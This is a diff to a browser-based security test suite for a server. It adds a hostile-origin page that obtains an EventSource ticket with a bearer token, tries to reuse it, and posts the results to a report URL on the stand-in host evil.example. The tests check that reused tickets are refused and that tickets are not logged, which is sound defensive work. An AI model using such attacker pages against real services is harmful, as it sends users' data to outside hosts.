@@ -65,6 +65,27 @@ async function attack() {
 }
 attack();
 </script>"""
+# A page that has a token follows the events with a ticket, and tries the same ticket again.
+FOLLOWER = b"""<!DOCTYPE html><script>
+const asked = new URLSearchParams(location.search), target = asked.get('target');
+
+function follow(ticket) {
+	return new Promise(done => {
+		const source = new EventSource(`${target}/v1/events?last-event-id=0&ticket=${ticket}`);
+		source.addEventListener('scored', event => { source.close(); done(JSON.parse(event.data).id); });
+		source.onerror = () => done(source.readyState === EventSource.CLOSED ? 'closed' : 'tries again');
+	});
+}
+
+async function run() {
+	const answer = await fetch(target + '/v1/tickets', {method: 'POST', headers: {Authorization: 'Bearer ' + asked.get('secret')}});
+	const {ticket} = await answer.json();
+	const seen = [await follow(ticket), await follow(ticket)];
+	await fetch(asked.get('report'), {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
+}
+run();
+</script>"""
+PAGES = {"attack": PAGE, "follow": FOLLOWER}
 
 
 class Attacker:
@@ -75,10 +96,11 @@ class Attacker:
 
         class Handler(http.server.BaseHTTPRequestHandler):
             def do_GET(self):
-                self.send_response(200 if self.path.startswith("/attack") else 404)
+                page = PAGES.get(self.path[1:].split("?")[0], b"")
+                self.send_response(200 if page else 404)
                 self.send_header("Content-Type", "text/html")
                 self.end_headers()
-                self.wfile.write(PAGE)
+                self.wfile.write(page)
 
             def do_POST(self):
                 reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
@@ -135,9 +157,9 @@ class Rebound:
         self.listener.close()
 
 
-def visit(attacker, page, target):
+def visit(attacker, page, target, name="attack", secret=SECRET):
     """Opens the page and lets it attack the target: what it could read."""
-    url = f"{page}/attack?" + urlencode({"target": target, "secret": SECRET, "report": f"http://evil.example:{attacker.port}/report"})
+    url = f"{page}/{name}?" + urlencode({"target": target, "secret": secret, "report": f"http://evil.example:{attacker.port}/report"})
     log = new_path("chromium.log")
     with open(log, "wb") as out:
         browser = subprocess.Popen(
@@ -232,6 +254,26 @@ def own_page():
     """a page of the server's own origin, by a name of --host, may all that has a type"""
     did, linked = rebound_does("--host", "rebound.example")
     assert linked and set(did) == {"json", "PATCH", "DELETE", "fetch", "fetch of one", "EventSource"}, did
+
+
+@check
+def page_with_a_ticket():
+    """EventSource follows the events with a ticket; the same ticket again is refused, and it gives up"""
+    made = subprocess.run(["senti-serve", "--new-token", "page:write"], capture_output=True, text=True, check=True, timeout=60)
+    tokens, attacker = new_path("tokens"), Attacker()
+    with open(tokens, "w") as f:
+        f.write(made.stdout)
+    token, origin = made.stderr.strip(), f"http://friend.example:{attacker.port}"
+    try:
+        with Server("--access-log", "--tokens", tokens, "--cors", origin) as s:
+            assert s.ask("POST", "/v1/messages", b'{"id":"first","text":"I love it"}',
+                         {"Content-Type": "application/json", "Authorization": f"Bearer {token}"})[0] == 202
+            visiting = visit(attacker, origin, f"http://127.0.0.1:{s.port}", "follow", token)
+            assert next(visiting) == ["first", "closed"]
+            visiting.close()
+            assert "ticket_" not in s.said()
+    finally:
+        attacker.close()
 
 
 run()
